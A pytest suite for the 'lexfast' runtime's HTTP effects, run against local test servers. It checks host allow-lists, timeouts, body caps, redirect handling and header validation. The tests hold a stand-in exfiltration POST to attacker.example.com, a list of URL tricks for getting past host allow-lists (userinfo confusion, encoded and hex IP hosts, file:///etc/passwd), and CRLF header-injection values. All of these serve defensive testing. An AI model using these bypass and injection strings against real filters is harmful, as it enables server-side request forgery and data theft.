"""net.get/post and http.send/get/post against real servers on 127.0.0.1.

The servers are the standard library's, speaking HTTP/1.1 with Nagle off,
started per module; the HTTPS ones use certificates made by trustme at test
time. docs/behaviour.md §6.5/§6.6 cases are ported with lexfast's stricter
outcomes where docs/design.md §5 asks for them (noted per test).
"""

from __future__ import annotations

import json
import os
import socket
import ssl
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, urlsplit

import pytest

from lexfast import NONE, EffectError, Map, PolicyDenied, Variant, err, ok, some
from lexfast.effects.net import http as lhttp
from lexfast.handler import Limits

# -- the test servers ------------------------------------------------------------------


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    disable_nagle_algorithm = True

    def log_message(self, *a):
        pass

    def _record(self, body: bytes) -> dict:
        rec = {"method": self.command, "path": self.path,
               "request_line": self.requestline,
               "headers": [[k, v] for k, v in self.headers.items()],
               "body": body.hex(), "client_port": self.client_address[1]}
        self.server.seen.append(rec)
        return rec

    def _reply(self, status: int, body: bytes, headers=(), ctype="text/plain"):
        self.send_response(status)
        if ctype:
            self.send_header("Content-Type", ctype)
        for k, v in headers:
            self.send_header(k, v)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(body)

    def _chunked(self, total: int, chunk: int = 64 << 10):
        self.send_response(200)
        self.send_header("Transfer-Encoding", "chunked")
        self.end_headers()
        sent = 0
        block = b"x" * chunk
        try:
            while sent < total:
                part = block[: min(chunk, total - sent)]
                self.wfile.write(b"%x\r\n%s\r\n" % (len(part), part))
                sent += len(part)
                self.server.streamed[self.path] = sent
            self.wfile.write(b"0\r\n\r\n")
        except OSError:
            self.close_connection = True

    def _do(self):
        n = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(n) if n else b""
        rec = self._record(body)
        url = urlsplit(self.path)
        q = {k: v[0] for k, v in parse_qs(url.query).items()}
        route = url.path
        if route == "/echo" or self.path.startswith("http://"):
            self._reply(200, json.dumps(rec).encode(), ctype="application/json")
        elif route == "/hello":
            self._reply(200, b"hello from server", headers=[("X-Server", "lex-test")])
        elif route.startswith("/status/"):
            code = int(route.rsplit("/", 1)[1])
            # 204 and 304 carry no body (a client would read it as the next response).
            self._reply(code, b"" if code in (204, 304) else q.get("body", "").encode())
        elif route == "/slow":
            time.sleep(int(q.get("ms", "1000")) / 1000)
            self._reply(200, b"ok")
        elif route == "/bytes":
            size = int(q["n"])
            if q.get("chunked"):
                self._chunked(size)
            else:
                self.send_response(200)
                self.send_header("Content-Length", str(size))
                self.end_headers()
                if self.command == "HEAD":
                    return
                try:
                    left = size
                    block = b"y" * (64 << 10)
                    while left:
                        self.wfile.write(block[: min(left, len(block))])
                        left -= min(left, len(block))
                        self.server.streamed[self.path] = size - left
                except OSError:
                    self.close_connection = True
        elif route == "/redirect":
            self._reply(int(q.get("code", "302")), b"moved",
                        headers=[("Location", q.get("to", "http://evil.invalid/"))])
        elif route == "/headers":
            self.send_response(200)
            self.send_header("X-Mixed-Case", "Value")
            self.send_header("X-Dup", "first")
            self.send_header("X-Dup", "second")
            self.send_header("X-Empty", "")
            self.send_header("X-Tab", "a\tb")
            self.end_headers_with_raw(b"X-Latin: caf\xe9\r\n")
            self.wfile.write(b"ok")
        elif route == "/bad-utf8":
            self._reply(200, b"ok \xff\xfe end")
        else:
            self._reply(404, b"nope")

    def end_headers_with_raw(self, raw: bytes):
        self._headers_buffer.append(raw)
        self.send_header("Content-Length", "2")
        self.end_headers()

    do_GET = do_POST = do_PUT = do_PATCH = do_DELETE = do_HEAD = do_OPTIONS = _do


class _Server(ThreadingHTTPServer):
    daemon_threads = True
    request_queue_size = 256

    def __init__(self, addr, ssl_ctx=None):
        super().__init__(addr, _Handler)
        self.seen: list = []
        self.streamed: dict = {}
        self.ssl_ctx = ssl_ctx

    def get_request(self):
        sock, addr = super().get_request()
        if self.ssl_ctx is not None:
            sock.settimeout(5)
            sock = self.ssl_ctx.wrap_socket(sock, server_side=True,
                                            do_handshake_on_connect=False)
        return sock, addr

    def handle_error(self, request, client_address):
        pass  # clients that hang up early (timeouts, the body cap) are expected

    def finish_request(self, request, client_address):
        if isinstance(request, ssl.SSLSocket):
            try:
                request.do_handshake()
            except (OSError, ssl.SSLError):
                return
        super().finish_request(request, client_address)


def _start(ssl_ctx=None):
    srv = _Server(("127.0.0.1", 0), ssl_ctx)
    t = threading.Thread(target=srv.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    t.start()
    return srv, t


def _stop(srv, t):
    srv.shutdown()
    srv.server_close()
    t.join(5)


@pytest.fixture(scope="module")
def server():
    srv, t = _start()
    srv.base = f"http://127.0.0.1:{srv.server_port}"
    yield srv
    _stop(srv, t)


@pytest.fixture(scope="module")
def tls(tmp_path_factory):
    trustme = pytest.importorskip("trustme")
    ca = trustme.CA()
    cert = ca.issue_cert("127.0.0.1", "localhost")
    d = tmp_path_factory.mktemp("tls")
    ca_path = d / "ca.pem"
    ca.cert_pem.write_to_path(str(ca_path))
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    cert.configure_cert(ctx)
    srv, t = _start(ctx)
    # A second server whose certificate comes from a CA nobody trusts.
    other = trustme.CA().issue_cert("127.0.0.1", "localhost")
    bad_ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    other.configure_cert(bad_ctx)
    bad, bt = _start(bad_ctx)
    # And one whose certificate names another host.
    wrong = ca.issue_cert("other.test")
    wrong_ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    wrong.configure_cert(wrong_ctx)
    wrong_srv, wt = _start(wrong_ctx)
    yield {"ca": str(ca_path), "port": srv.server_port, "bad_port": bad.server_port,
           "wrong_port": wrong_srv.server_port, "server": srv}
    _stop(srv, t)
    _stop(bad, bt)
    _stop(wrong_srv, wt)


@pytest.fixture
def net(make_handler):
    return make_handler(effects=["net"])


def _req(url, method="GET", headers=None, body=NONE, timeout_ms=NONE):
    return {"method": method, "url": url, "headers": Map(headers or {}),
            "body": body, "timeout_ms": timeout_ms}


def _ok_record(v):
    assert isinstance(v, Variant) and v.name == "Ok", v
    rec = v.args[0]
    assert set(rec) == {"status", "headers", "body"}
    assert isinstance(rec["headers"], Map) and isinstance(rec["body"], bytes)
    return rec


def _echo(v) -> dict:
    return json.loads(_ok_record(v)["body"])


def _hdrs(rec) -> dict:
    return {k.lower(): v for k, v in rec["headers"]}


def _closed_port() -> int:
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
    s.close()
    return port


def _decode_err(v) -> str:
    assert isinstance(v, Variant) and v.name == "Err", v
    inner = v.args[0]
    assert isinstance(inner, Variant) and inner.name == "DecodeError", inner
    return inner.args[0]


def _url_err(v) -> str:
    """A URL libcurl refuses: ``Err(NetworkError(msg))``, the reference's shape."""
    assert isinstance(v, Variant) and v.name == "Err", v
    inner = v.args[0]
    assert isinstance(inner, Variant) and inner.name == "NetworkError", inner
    return inner.args[0]


def _http_err(v, name):
    assert isinstance(v, Variant) and v.name == "Err", v
    inner = v.args[0]
    assert isinstance(inner, Variant) and inner.name == name, inner
    return inner.args[0] if inner.args else None


# -- net.get / net.post (docs/behaviour.md §6.5) --------------------------------------------------

def test_net_get_returns_body(net, server):  # case 47
    assert net.dispatch("net", "get", [server.base + "/hello"]) == ok("hello from server")


def test_net_get_bad_url_and_https_to_closed_port(net):  # case 48
    r = net.dispatch("net", "get", ["not-a-url"])
    assert r.name == "Err" and r.args[0].startswith("transport: ")
    r = net.dispatch("net", "get", [f"https://127.0.0.1:{_closed_port()}/"])
    assert r.name == "Err" and r.args[0].startswith("transport: ")
    assert "must start with" not in r.args[0]


def test_net_post_host_exfiltration_is_hard(make_handler):  # case 49
    h = make_handler(effects=["net"], hosts=["api.openai.com"])
    with pytest.raises(PolicyDenied) as ei:
        h.dispatch("net", "post", ["http://attacker.example.com/leak", "x"])
    assert str(ei.value) == ("net call to host `attacker.example.com` not in "
                             '--allow-net-host ["api.openai.com"]')
    assert ei.value.host == "attacker.example.com" and ei.value.effect == "net"


def test_net_needs_the_net_effect(make_handler):  # case 50, 67
    h = make_handler()
    with pytest.raises(PolicyDenied, match="effect `net` not in --allow-effects"):
        h.dispatch("net", "get", ["http://127.0.0.1:1/"])
    with pytest.raises(ValueError, match="unknown effect kind `http`"):
        make_handler(effects=["http"])  # the family's name grants nothing: refused
    h = make_handler(effects=["io"])
    for op, args in (("get", ["http://127.0.0.1:1/"]), ("post", ["http://x/", b"", ""]),
                     ("send", [_req("http://x/")])):
        with pytest.raises(PolicyDenied, match="effect `net` not in --allow-effects"):
            h.dispatch("http", op, args)


def test_net_get_status_error(net, server):  # case 51
    assert net.dispatch("net", "get", [server.base + "/status/404?body=nope"]) == \
        err("status 404: nope")
    assert net.dispatch("net", "get", [server.base + "/status/500?body=boom"]) == \
        err("status 500: boom")
    assert net.dispatch("net", "get", [server.base + "/status/204"]) == ok("")
    # 3xx: never followed, so it is a non-2xx status like any other.
    r = net.dispatch("net", "get", [server.base + "/redirect?to=" + server.base + "/hello"])
    assert r == err("status 302: moved")


def test_net_port_is_ignored_by_the_host_check(make_handler, server):  # case 52
    h = make_handler(effects=["net"], hosts=["127.0.0.1"])
    assert h.dispatch("net", "get", [server.base + "/hello"]) == ok("hello from server")


def test_net_scheme_and_host_case_are_normalised(make_handler, server):
    # case 53, stricter-than-reference outcome: the reference compared the raw
    # text case-sensitively; lexfast compares the host libcurl will use, so
    # `HTTP://` and upper-case hosts reach the same (allowed) host.
    h = make_handler(effects=["net"], hosts=["localhost"])
    port = server.server_port
    assert h.dispatch("net", "get", [f"HTTP://LOCALHOST:{port}/hello"]) == ok("hello from server")
    assert h.dispatch("net", "get", [f"http://LocalHost.:{port}/hello"]) == ok("hello from server")
    with pytest.raises(PolicyDenied, match="`API.openai.com`"):
        h.dispatch("net", "get", ["HTTP://API.openai.com/"])


def test_net_userinfo_bypass_is_closed(make_handler):
    # case 54: the reference let this through (host read as `allowed.test`).
    h = make_handler(effects=["net"], hosts=["allowed.test"])
    with pytest.raises(PolicyDenied) as ei:
        h.dispatch("net", "get", ["http://allowed.test:1@nonexistent.invalid/"])
    assert str(ei.value) == ("net call to host `nonexistent.invalid` not in "
                             '--allow-net-host ["allowed.test"]')


def test_net_post_sends_the_string_without_a_content_type(net, server):
    rec = json.loads(net.dispatch("net", "post", [server.base + "/echo", "héllo"]).args[0])
    assert rec["method"] == "POST"
    assert bytes.fromhex(rec["body"]) == "héllo".encode()
    names = {k.lower() for k, _ in rec["headers"]}
    assert "content-type" not in names and "expect" not in names
    assert _hdrs(rec)["user-agent"].startswith("lexfast/")


def test_net_get_invalid_utf8_becomes_question_marks(net, server):
    assert net.dispatch("net", "get", [server.base + "/bad-utf8"]) == ok("ok ?? end")


def test_net_get_refused_and_body_cap(make_handler, server):
    h = make_handler(effects=["net"], limits=Limits(http_body_bytes=1000))
    r = h.dispatch("net", "get", [f"http://127.0.0.1:{_closed_port()}/"])
    assert r.name == "Err" and r.args[0].startswith("transport: ")
    # The reference silently returned Ok("") past the cap; lexfast says so.
    r = h.dispatch("net", "get", [server.base + "/bytes?n=1001"])
    assert r == err("transport: body read: response body exceeds 1000 bytes")
    assert h.dispatch("net", "get", [server.base + "/bytes?n=1000"]) == ok("y" * 1000)


def test_net_timeout(make_handler, server):
    h = make_handler(effects=["net"], limits=Limits(http_timeout_s=0.2))
    t = time.monotonic()
    r = h.dispatch("net", "get", [server.base + "/slow?ms=1500"])
    assert time.monotonic() - t < 1.2
    assert r.name == "Err" and r.args[0].startswith("transport: ")
    assert "timed out" in r.args[0].lower()


def test_net_bad_argument_types(net):
    with pytest.raises(EffectError, match=r"^expected Str arg, got Int\(3\)$"):
        net.dispatch("net", "get", [3])
    with pytest.raises(EffectError, match="^missing argument$"):
        net.dispatch("net", "get", [])
    with pytest.raises(EffectError, match=r"^expected Str arg, got Bytes\(\[120\]\)$"):
        net.dispatch("net", "post", ["http://127.0.0.1:1/", b"x"])
    with pytest.raises(EffectError, match="^missing argument$"):
        net.dispatch("net", "post", ["http://127.0.0.1:1/"])


# -- http.get / http.post / http.send (docs/behaviour.md §6.6) -----------------------------------------

def test_http_get_status_headers_body(net, server):  # case 55
    rec = _ok_record(net.dispatch("http", "get", [server.base + "/hello"]))
    assert rec["status"] == 200 and rec["body"] == b"hello from server"
    assert rec["headers"]["x-server"] == "lex-test"
    assert rec["headers"]["content-length"] == "17"


def test_http_post_sends_body_and_content_type(net, server):  # case 56
    rec = _echo(net.dispatch("http", "post", [server.base + "/echo", b"\x00\x01\x02hi",
                                               "application/octet-stream"]))
    assert rec["method"] == "POST" and bytes.fromhex(rec["body"]) == b"\x00\x01\x02hi"
    assert _hdrs(rec)["content-type"] == "application/octet-stream"
    # An empty content type sends none (libcurl would have added a form type).
    rec = _echo(net.dispatch("http", "post", [server.base + "/echo", b"a=1", ""]))
    assert "content-type" not in _hdrs(rec)
    r = net.dispatch("http", "post", [server.base + "/status/201", b"", "text/plain"])
    assert _ok_record(r)["status"] == 201


def test_http_send_headers_go_verbatim(net, server):  # case 57
    rec = _echo(net.dispatch("http", "send", [_req(
        server.base + "/echo?x=1", headers={"authorization": "Bearer secret-jwt",
                                            "X-Custom": "v", "x-empty": ""})]))
    assert rec["request_line"].startswith("GET /echo?x=1 ")
    assert ["authorization", "Bearer secret-jwt"] in rec["headers"]  # name as given
    assert ["X-Custom", "v"] in rec["headers"]
    assert ["x-empty", ""] in rec["headers"]


def test_http_get_unreachable_is_network_error(net):  # case 58
    msg = _http_err(net.dispatch("http", "get", [f"http://127.0.0.1:{_closed_port()}/"]),
                    "NetworkError")
    assert isinstance(msg, str) and msg


def test_http_get_post_host_denial_is_hard(make_handler):  # case 59
    h = make_handler(effects=["net"], hosts=["api.openai.com"])
    for op, args in (("get", ["http://attacker.example.com/"]),
                     ("post", ["http://attacker.example.com/", b"", ""])):
        with pytest.raises(PolicyDenied) as ei:
            h.dispatch("http", op, args)
        assert "attacker.example.com" in str(ei.value) and "allow-net-host" in str(ei.value)


def test_http_post_checks_args_before_host(make_handler):
    h = make_handler(effects=["net"], hosts=["api.openai.com"])
    with pytest.raises(EffectError, match=r"^expected Str arg, got Int\(3\)$"):
        h.dispatch("http", "post", ["http://attacker.example.com/", b"", 3])
    with pytest.raises(EffectError, match=r'^expected Bytes arg, got Str\("x"\)$'):
        h.dispatch("http", "post", ["http://attacker.example.com/", "x", ""])


def test_http_send_host_denial_is_soft(make_handler):  # case 60
    h = make_handler(effects=["net"], hosts=["api.openai.com"])
    r = h.dispatch("http", "send", [_req("http://attacker.example.com/")])
    assert _decode_err(r) == ("net call to host `attacker.example.com` not in "
                              '--allow-net-host ["api.openai.com"]')


def test_http_send_timeout(net, server):  # cases 61, 62
    t = time.monotonic()
    r = net.dispatch("http", "send", [_req(server.base + "/slow?ms=1500", timeout_ms=some(300))])
    assert r == err(Variant("TimeoutError", ()))
    assert time.monotonic() - t < 1.2
    r = net.dispatch("http", "send", [_req(server.base + "/slow?ms=300", timeout_ms=some(3000))])
    rec = _ok_record(r)
    assert rec["status"] == 200 and rec["body"] == b"ok"
    # Some(0) is a zero budget: it times out rather than meaning "no limit".
    r = net.dispatch("http", "send", [_req(server.base + "/slow?ms=200", timeout_ms=some(0))])
    assert r == err(Variant("TimeoutError", ()))


@pytest.mark.parametrize("method", ["PUT", "PATCH", "DELETE", "POST"])
def test_http_send_methods_with_body(net, server, method):
    # cases 63/64 (seed-adjusted): beyond the reference, PUT/PATCH/DELETE work.
    rec = _echo(net.dispatch("http", "send", [_req(
        server.base + "/echo", method=method, body=some(b"payload"),
        headers={"content-type": "application/json"})]))
    assert rec["method"] == method and bytes.fromhex(rec["body"]) == b"payload"
    h = _hdrs(rec)
    assert h["content-type"] == "application/json" and "expect" not in h


def test_http_send_methods_without_body(net, server):
    rec = _echo(net.dispatch("http", "send", [_req(server.base + "/echo", method="delete")]))
    assert rec["method"] == "DELETE" and rec["body"] == ""
    assert "content-length" not in _hdrs(rec)
    rec = _echo(net.dispatch("http", "send", [_req(server.base + "/echo", method="put")]))
    assert rec["method"] == "PUT" and _hdrs(rec)["content-length"] == "0"
    assert "content-type" not in _hdrs(rec)
    # A GET ignores any body, as in the reference.
    rec = _echo(net.dispatch("http", "send", [_req(server.base + "/echo", method="get",
                                                    body=some(b"ignored"))]))
    assert rec["method"] == "GET" and rec["body"] == ""
    r = net.dispatch("http", "send", [_req(server.base + "/hello", method="HEAD")])
    rec = _ok_record(r)
    assert rec["status"] == 200 and rec["body"] == b""
    assert rec["headers"]["content-length"] == "17"


def test_http_send_unsupported_method(net):
    for m in ("TRACE", "CONNECT", "G ET", ""):
        assert _decode_err(net.dispatch("http", "send", [_req("http://127.0.0.1:1/", method=m)])) \
            == f"unsupported method: {m}"


def test_http_send_record_validation(net):  # cases 65, 66
    u = "http://127.0.0.1:1/"
    cases = [
        ({"method": 1}, "HttpRequest.method must be Str"),
        ({"method": None}, "HttpRequest.method must be Str"),
        ({"url": b"x"}, "HttpRequest.url must be Str"),
        ({"body": some("x")}, "HttpRequest.body Some payload must be Bytes"),
        ({"body": b"x"}, "HttpRequest.body must be Option[Bytes]"),
        ({"body": Variant("Some", (b"a", b"b"))}, "HttpRequest.body must be Option[Bytes]"),
        ({"timeout_ms": some(-1)}, "HttpRequest.timeout_ms Some payload must be a non-negative Int"),
        ({"timeout_ms": some(True)}, "HttpRequest.timeout_ms Some payload must be a non-negative Int"),
        ({"timeout_ms": some(1.5)}, "HttpRequest.timeout_ms Some payload must be a non-negative Int"),
        ({"timeout_ms": 5}, "HttpRequest.timeout_ms must be Option[Int]"),
        ({"headers": {"a": "b"}}, "HttpRequest.headers must be Map[Str, Str]"),
        ({"headers": None}, "HttpRequest.headers must be Map[Str, Str]"),
    ]
    for change, msg in cases:
        req = _req(u)
        req.update(change)
        assert _decode_err(net.dispatch("http", "send", [req])) == msg, change
    for field, msg in (("method", "HttpRequest.method must be Str"),
                       ("url", "HttpRequest.url must be Str"),
                       ("body", "HttpRequest.body must be Option[Bytes]"),
                       ("timeout_ms", "HttpRequest.timeout_ms must be Option[Int]"),
                       ("headers", "HttpRequest.headers must be Map[Str, Str]")):
        req = _req(u)
        del req[field]
        assert _decode_err(net.dispatch("http", "send", [req])) == msg
    # Beyond the reference (which dropped them silently): non-Str header
    # keys or values are a DecodeError naming the field.
    msg = _decode_err(net.dispatch("http", "send", [_req(u, headers={"a": 3})]))
    assert msg.startswith("HttpRequest.headers must be Map[Str, Str]") and "Int(3)" in msg
    msg = _decode_err(net.dispatch("http", "send", [_req(u, headers={4: "x"})]))
    assert msg.startswith("HttpRequest.headers must be Map[Str, Str]")
    with pytest.raises(EffectError, match=r'^expected Record, got Str\("x"\)$'):
        net.dispatch("http", "send", ["x"])
    with pytest.raises(EffectError, match="^expected Record, got Map"):
        net.dispatch("http", "send", [Map()])
    with pytest.raises(EffectError, match="^missing Record argument$"):
        net.dispatch("http", "send", [])


def test_http_bad_argument_types(net):
    with pytest.raises(EffectError, match=r"^expected Str arg, got Int\(1\)$"):
        net.dispatch("http", "get", [1])
    with pytest.raises(EffectError, match="^missing argument$"):
        net.dispatch("http", "post", ["http://x/", b""])


def test_http_statuses_are_values(net, server):  # case 68
    for code in (200, 201, 204, 301, 400, 404, 418, 500, 503):
        rec = _ok_record(net.dispatch("http", "get", [f"{server.base}/status/{code}?body=b"]))
        assert rec["status"] == code
        assert rec["body"] == (b"" if code == 204 else b"b")


def test_http_response_headers(net, server):
    h = _ok_record(net.dispatch("http", "get", [server.base + "/headers"]))["headers"]
    assert h["x-mixed-case"] == "Value"
    assert h["x-dup"] == "second"                # last one wins
    assert h["x-empty"] == "" and h["x-tab"] == "a\tb"
    assert h["x-latin"] == ""                    # not visible ASCII
    assert all(k == k.lower() for k in h)


def test_http_body_cap_default_10mib(net, server):  # case 69
    r = net.dispatch("http", "get", [server.base + f"/bytes?n={11 << 20}"])
    assert _decode_err(r) == "body read: response body exceeds 10 MiB"
    # Streamed (chunked) past the cap: the transfer stops there instead of
    # downloading all 64 MiB.
    path = f"/bytes?n={64 << 20}&chunked=1"
    r = net.dispatch("http", "get", [server.base + path])
    assert _decode_err(r) == "body read: response body exceeds 10 MiB"
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline and server.streamed.get(path, 0) < (10 << 20):
        time.sleep(0.02)
    time.sleep(0.2)
    assert server.streamed.get(path, 0) < (24 << 20)
    rec = _ok_record(net.dispatch("http", "get", [server.base + f"/bytes?n={10 << 20}"]))
    assert len(rec["body"]) == 10 << 20


@pytest.mark.parametrize("chunked", ["", "1"])
def test_http_body_cap_boundary(make_handler, server, chunked):
    h = make_handler(effects=["net"], limits=Limits(http_body_bytes=200_000))
    base = f"{server.base}/bytes?chunked={chunked}&n="
    assert len(_ok_record(h.dispatch("http", "get", [base + "200000"]))["body"]) == 200_000
    assert _decode_err(h.dispatch("http", "get", [base + "200001"])) == \
        "body read: response body exceeds 200000 bytes"
    # HEAD of a huge resource is not a body over the cap.
    r = h.dispatch("http", "send", [_req(base + "50000000", method="HEAD")])
    assert _ok_record(r)["status"] == 200


def test_redirects_are_returned_not_followed(make_handler, server):
    h = make_handler(effects=["net"], hosts=["127.0.0.1"])
    for code in (301, 302, 303, 307, 308):
        n = len(server.seen)
        for to in (server.base + "/echo", "http://evil.invalid/", "file:///etc/passwd"):
            r = h.dispatch("http", "get", [f"{server.base}/redirect?code={code}&to={to}"])
            rec = _ok_record(r)
            assert rec["status"] == code and rec["headers"]["location"] == to
        assert len(server.seen) == n + 3  # only the redirecting requests arrived
    r = h.dispatch("http", "send", [_req(f"{server.base}/redirect?to={server.base}/echo",
                                         method="POST", body=some(b"x"))])
    assert _ok_record(r)["status"] == 302


def test_large_post_does_not_wait_for_100_continue(net, server):
    body = os.urandom(3 << 20)
    t = time.monotonic()
    rec = _echo(net.dispatch("http", "post", [server.base + "/echo", body, "application/x"]))
    assert time.monotonic() - t < 0.9
    assert "expect" not in _hdrs(rec) and bytes.fromhex(rec["body"]) == body


# -- host tricks ------------------------------------------------------------------------------------

def _denied_host(h, url):
    """The host named by the hard denial of ``http.get(url)``, and the soft
    ``http.send`` denial agreeing with it."""
    with pytest.raises(PolicyDenied) as ei:
        h.dispatch("http", "get", [url])
    soft = _decode_err(h.dispatch("http", "send", [_req(url)]))
    assert soft == str(ei.value)
    with pytest.raises(PolicyDenied):
        h.dispatch("net", "get", [url])
    return ei.value.host


@pytest.mark.parametrize("url, host", [
    ("http://127.0.0.1@evil.invalid/", "evil.invalid"),
    ("http://127.0.0.1:80@evil.invalid/", "evil.invalid"),
    ("http://127.0.0.1%3a80@evil.invalid/", "evil.invalid"),
    ("http://127.0.0.1:80\\@evil.invalid/", "evil.invalid"),
    ("http://evil%2einvalid/", "evil.invalid"),
    ("http://%65vil.invalid/", "evil.invalid"),
    ("http://evil.invalid#@127.0.0.1/", "evil.invalid"),
    ("http://evil.invalid?@127.0.0.1/", "evil.invalid"),
    ("http://evil.invalid/@127.0.0.1/", "evil.invalid"),
    ("http://127.0.0.1.evil.invalid/", "127.0.0.1.evil.invalid"),
    ("http://[::ffff:127.0.0.1]/", "[::ffff:127.0.0.1]"),
    ("http://[::1]/", "[::1]"),
    ("http://0x7f.0.0.2/", "127.0.0.2"),
    ("http://localhost/", "localhost"),
    ("https://evil.invalid:443/", "evil.invalid"),
    ("file:///etc/passwd", ""),
    ("gopher://evil.invalid/", "evil.invalid"),
])
def test_host_tricks_are_denied(make_handler, url, host):
    h = make_handler(effects=["net"], hosts=["127.0.0.1"])
    assert _denied_host(h, url) == host


@pytest.mark.parametrize("url", [
    "http:\\\\127.0.0.1/", "http:/\\127.0.0.1/", "http://127.0.0.1\\evil.invalid/",
    "//127.0.0.1/", "127.0.0.1/x", "http://127.0.0.1 /", "http://127.0.0.1%00.evil/",
    "http://127.0.0.1%2f.evil/", "http://evil.invalid%40127.0.0.1/", "http://127.0.0.1:99999/",
    "http://a/b\r\nX-Injected: 1", "http://", "http://u:p@127.0.0.1:1@evil.invalid/",
    "http://u@127.0.0.1@evil.invalid/",
])
def test_ambiguous_urls_are_refused(make_handler, url):
    h = make_handler(effects=["net"], hosts=["127.0.0.1"])
    msg = _url_err(h.dispatch("http", "get", [url]))
    assert msg.startswith("invalid URL")
    assert _url_err(h.dispatch("http", "send", [_req(url)])).startswith("invalid URL")
    r = h.dispatch("net", "get", [url])
    assert r.name == "Err" and r.args[0].startswith("transport: invalid URL")


@pytest.mark.parametrize("form", [
    "http://127.0.0.1:{p}/echo", "http://0x7f.1:{p}/echo", "http://0177.0.0.1:{p}/echo",
    "http://2130706433:{p}/echo", "http://127.1:{p}/echo", "HTTP://127.0.0.1:{p}/echo",
    "http://%31%32%37.0.0.1:{p}/echo", "http://127.0.0.1.:{p}/echo",
    "http://evil.invalid@127.0.0.1:{p}/echo", "http://evil.invalid\\@127.0.0.1:{p}/echo",
])
def test_allowed_host_spellings_reach_that_host(make_handler, server, form):
    # What libcurl parsed and we checked is what it connects to: these all
    # name 127.0.0.1, and the request arrives there.
    h = make_handler(effects=["net"], hosts=["127.0.0.1"])
    rec = _echo(h.dispatch("http", "get", [form.format(p=server.server_port)]))
    assert rec["path"] == "/echo"
    assert _hdrs(rec)["host"].startswith("127.0.0.1")


def test_allow_list_entries_are_normalised(make_handler, server):
    p = server.server_port
    for entry in ("127.1", "LOCALHOST.", "0x7f.0.0.1"):
        h = make_handler(effects=["net"], hosts=[entry, "other.test"])
        host = "localhost" if "LOCAL" in entry else "127.0.0.1"
        assert _ok_record(h.dispatch("http", "get", [f"http://{host}:{p}/hello"]))["status"] == 200
    h = make_handler(effects=["net"], hosts=["0:0:0:0:0:0:0:1"])
    r = h.dispatch("http", "get", [f"http://[::1]:{_closed_port()}/"])
    assert r.name == "Err" and r.args[0].name in ("NetworkError",)  # allowed, then refused


@pytest.mark.parametrize("url", [
    "file:///etc/passwd", "dict://127.0.0.1:{p}/", "gopher://127.0.0.1:{p}/",
    "ftp://127.0.0.1:{p}/", "ws://127.0.0.1:{p}/", "smtp://127.0.0.1:{p}/",
    "telnet://127.0.0.1:{p}/", "ldap://127.0.0.1:{p}/",
])
def test_non_http_schemes_refused_even_without_host_list(net, make_handler, server, url):
    url = url.format(p=server.server_port)
    n = len(server.seen)
    msg = _url_err(net.dispatch("http", "get", [url]))
    assert "only http and https" in msg or msg.startswith("invalid URL")
    assert _url_err(net.dispatch("http", "send", [_req(url)])) == msg
    r = net.dispatch("net", "get", [url])
    assert r.name == "Err" and r.args[0].startswith("transport: ")
    with pytest.raises(lhttp.HttpFailure) as ei:
        lhttp.request(net, "GET", url, check_host=False)
    assert ei.value.kind == "url"
    # With a host list naming the host, the scheme is still refused (softly).
    h = make_handler(effects=["net"], hosts=["127.0.0.1"])
    if not url.startswith("file:"):
        assert _url_err(h.dispatch("http", "get", [url]))
    assert len(server.seen) == n  # nothing reached the server


# -- request headers ----------------------------------------------------------------------------------

@pytest.mark.parametrize("headers, fragment", [
    ({"x-a": "v\r\nX-Injected: 1"}, "value of header `x-a` contains CR, LF or NUL"),
    ({"x-a": "v\nX-Injected: 1"}, "contains CR, LF or NUL"),
    ({"x-a": "v\rX"}, "contains CR, LF or NUL"),
    ({"x-a": "v\0"}, "contains CR, LF or NUL"),
    ({"x-a\r\nX-Injected": "1"}, "contains CR, LF or NUL"),
    ({"x a": "1"}, "invalid header name"),
    ({"x:a": "1"}, "invalid header name"),
    ({"": "1"}, "invalid header name"),
    ({"Host": "evil.invalid"}, "header `Host` is set by the client"),
    ({"content-length": "0"}, "is set by the client"),
    ({"Transfer-Encoding": "chunked"}, "is set by the client"),
    ({"connection": "close"}, "is set by the client"),
])
def test_bad_request_headers_are_refused_never_sent(net, server, headers, fragment):
    n = len(server.seen)
    msg = _decode_err(net.dispatch("http", "send", [_req(server.base + "/echo", headers=headers)]))
    assert msg.startswith("HttpRequest.headers") and fragment in msg
    assert len(server.seen) == n


def test_content_type_with_crlf_is_refused(net, server):
    n = len(server.seen)
    msg = _decode_err(net.dispatch("http", "post", [server.base + "/echo", b"x",
                                                     "text/plain\r\nX-Injected: 1"]))
    assert msg.startswith("content_type") and "CR, LF or NUL" in msg
    assert len(server.seen) == n


def test_user_agent_accept_and_userinfo(net, server):
    rec = _echo(net.dispatch("http", "get", [server.base + "/echo"]))
    assert _hdrs(rec)["user-agent"] == f"lexfast/{__import__('lexfast').__version__}"
    rec = _echo(net.dispatch("http", "send", [_req(server.base + "/echo",
                                                    headers={"User-Agent": "mine/1"})]))
    assert _hdrs(rec)["user-agent"] == "mine/1"
    rec = _echo(net.dispatch("http", "get", [f"http://u:p@127.0.0.1:{server.server_port}/echo"]))
    assert _hdrs(rec)["authorization"] == "Basic dTpw"


def test_environment_proxy_is_ignored_operator_proxy_used(make_handler, server, monkeypatch):
    proxy, pt = _start()
    try:
        proxy_url = f"http://127.0.0.1:{proxy.server_port}"
        for var in ("http_proxy", "HTTP_PROXY", "https_proxy", "HTTPS_PROXY", "ALL_PROXY",
                    "all_proxy"):
            monkeypatch.setenv(var, proxy_url)
        monkeypatch.delenv("no_proxy", raising=False)
        monkeypatch.delenv("NO_PROXY", raising=False)
        h = make_handler(effects=["net"])
        rec = _echo(h.dispatch("http", "get", [server.base + "/echo"]))
        assert rec["path"] == "/echo" and proxy.seen == []
        h = make_handler(effects=["net"], limits=Limits(http_proxy=proxy_url))
        rec = _echo(h.dispatch("http", "get", [server.base + "/echo"]))
        assert rec["path"] == server.base + "/echo" and len(proxy.seen) == 1
    finally:
        _stop(proxy, pt)


